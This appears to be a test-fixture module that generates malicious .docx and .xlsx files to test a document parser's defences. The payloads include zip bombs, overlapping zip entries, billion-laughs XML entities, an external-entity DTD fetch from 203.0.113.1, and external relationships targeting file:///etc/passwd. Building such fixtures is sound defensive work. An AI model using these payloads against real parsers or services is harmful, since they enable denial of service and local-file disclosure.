"""Word files and workbooks made to hurt; rows of name, maker, full size and the size of the tests."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

from word import MAIN, NAMES, members, p, packed, run, tbl, tc, word
from workbooks import archive, workbook

LAUGH = "<!DOCTYPE a [<!ENTITY x 'lol'>" + "".join(f"<!ENTITY x{n} '{'&x;' * 10}'>" for n in range(9)) + "]>"
OUTSIDE = '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://203.0.113.1/a.dtd">%x;]>'
TEMPLATE = (
    '<Relationships><Relationship Id="r1" Type="a/officeDocument" TargetMode="External" Target="http://203.0.113.1/"/>'
    '<Relationship Id="r2" Type="a/attachedTemplate" TargetMode="External" Target="file:///etc/passwd"/></Relationships>'
)


def _figures(size: int) -> Iterator[str]:
    """Figures without end in sight, which do not pack well."""
    return (f"{n * 2654435761 % 4294967296 / 100:.2f}" for n in range(size))


def _body(size: int) -> str:
    return "".join(p(f"甲{one}增长{one}%。") for one in _figures(size))


def _dense(size: int) -> bytes:
    return packed({**members(p("文")), "word/document.xml": f"<w:document {NAMES}>" + " " * size + "</w:document>"})


def _declared(kind: str) -> bytes:
    parts = members(p("&x8;"))
    return packed({**parts, "word/document.xml": kind + parts["word/document.xml"]})


def _zipped(size: int) -> bytes:
    """An archive in an archive in an archive under the name of a Word file."""
    content = packed({"a.xml": " " * size})
    for _ in range(5):
        content = packed({f"{n}.zip": content for n in range(10)})
    return packed({**members(p("增长7%。")), "word/document.zip": content})


def _overlapping(size: int) -> bytes:
    """A directory that names one member many times."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as written:
        for name, content in members(p("文")).items():
            written.writestr(name, content)
        main = written.getinfo("word/document.xml")
        for number in range(size):
            again = zipfile.ZipInfo(f"word/{number}.xml")
            for field in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(again, field, getattr(main, field))
            written.filelist.append(again)
    return out.getvalue()


def _table(rows: int, columns: int) -> bytes:
    head = ("指标", *(f"{2000 + n % 30}年" for n in range(columns - 1)))
    figures = _figures(rows * columns)
    cells = "".join(f"<w:tc><w:p><w:r><w:t>{one}</w:t></w:r></w:p></w:tc>{{}}" for one in figures).split("{}")
    starts = range(0, rows * columns, columns)
    body = "".join(f"<w:tr>{''.join(cells[start : start + columns])}</w:tr>" for start in starts)
    return word(tbl(head).replace("</w:tbl>", f"{body}</w:tbl>"))


def _spanned(rows: int) -> bytes:
    """Rows of 63 columns, of which each is written as two cells."""
    span = '<w:gridSpan w:val="62"/>'
    head = f"<w:tr>{tc('甲')}{tc('乙', span)}</w:tr>"
    row = f"<w:tr>{tc('1', span)}{tc('')}</w:tr>".replace("<w:rPr></w:rPr>", "")
    return word(f"<w:tbl>{head}{row * rows}</w:tbl>")


def _within(size: int) -> bytes:
    body = p("增长7%。")
    for _ in range(size):
        body = tbl(("甲", tc(body + p(""))))
    return word(body)


def _cells(rows: int, columns: int) -> bytes:
    head = "".join(f"<c><v>{2000 + n % 30}</v></c>" for n in range(columns))
    cells = [f"<c><v>{one}</v></c>" for one in _figures(rows * columns)]
    body = "".join(
        f"<row>{''.join(cells[start : start + columns])}</row>" for start in range(0, rows * columns, columns)
    )
    return _sheet(f"<row>{head}</row>{body}")


def _sheet(body: str, before: str = "") -> bytes:
    text = f"{before}<worksheet><sheetData>{body}</sheetData></worksheet>"
    return workbook({"甲": [["乙"]]}, parts={"xl/worksheets/s1.xml": text})


def _merged(size: int) -> bytes:
    cells = "<row>" + "<c><v>1</v></c>" * 900 + "</row>"
    spans = "<mergeCells>" + "<mergeCell ref='A1:XFD1048576'/>" * size + "</mergeCells>"
    text = f"<worksheet><sheetData>{cells * 3}</sheetData>{spans}</worksheet>"
    return workbook({"甲": [["乙"]]}, parts={"xl/worksheets/s1.xml": text})


GOOD = word(_body(50))
BOOK = workbook({"甲": [["指标", "2020年"], ["收入", ("10", "0")]]})
DOCUMENTS = (
    ("bomb.docx", _dense, 400_000_000, 3_000_000),
    ("zipped.docx", _zipped, 10_000_000, 10_000),
    ("overlapping.docx", _overlapping, 9_000, 50),
    ("overlapping-many.docx", _overlapping, 60_000, 50),
    ("entities.docx", lambda _: _declared(LAUGH), 1, 1),
    ("outside.docx", lambda _: _declared(OUTSIDE), 1, 1),
    ("template.docx", lambda _: packed({**members(p("增长7%。")), "_rels/.rels": TEMPLATE}), 1, 1),
    ("torn.docx", lambda _: GOOD[: len(GOOD) // 2], 1, 1),
    ("table.docx", lambda size: _table(size, 63), 2_000, 5),
    ("spanned.docx", _spanned, 14_000, 40),
    ("wide.docx", lambda size: _table(20, size), 10_000, 100),
    ("within.docx", _within, 60, 20),
    ("paragraphs.docx", lambda size: word(_body(size)), 200_000, 100),
    ("runs.docx", lambda size: word(f"<w:p>{''.join(map(run, _figures(size)))}</w:p>"), 300_000, 1000),
    ("wrapped.docx", lambda size: word("<w:ins>" * size + p("文") + "</w:ins>" * size), 20_000, 900),
    (
        "deleted.docx",
        lambda size: word("".join(p(one, properties="<w:rPr><w:del/></w:rPr>") for one in _figures(size))),
        30_000,
        300,
    ),
    (
        "document.docx",
        lambda size: word(f"<w:p><w:r><w:t>{'，'.join(_figures(size))}</w:t></w:r></w:p>"),
        1_000_000,
        300,
    ),
    ("no-body.docx", lambda _: packed({"word/document.xml": f'<w:document xmlns:w="{MAIN}"/>'}), 1, 1),
)
BOOKS = (
    ("bomb.xlsx", lambda size: _sheet(" " * size), 400_000_000, 3_000_000),
    ("entities.xlsx", lambda _: _sheet("&x8;", LAUGH), 1, 1),
    ("outside.xlsx", lambda _: _sheet("&x;", OUTSIDE), 1, 1),
    ("torn.xlsx", lambda _: BOOK[: len(BOOK) // 2], 1, 1),
    ("wide.xlsx", lambda size: _cells(20, size), 10_000, 100),
    ("wide-900.xlsx", lambda size: _cells(20, size), 900, 100),
    ("million.xlsx", lambda size: _cells(size, 10), 100_000, 100),
    ("cells.xlsx", lambda size: _cells(size, 10), 29_000, 100),
    ("merged.xlsx", _merged, 100_000, 100),
    ("nested.xlsx", lambda size: _sheet("<a>" * size + "</a>" * size), 1_000_000, 1000),
    ("other.zip.xlsx", lambda _: archive({"a.txt": "b"}), 1, 1),
)
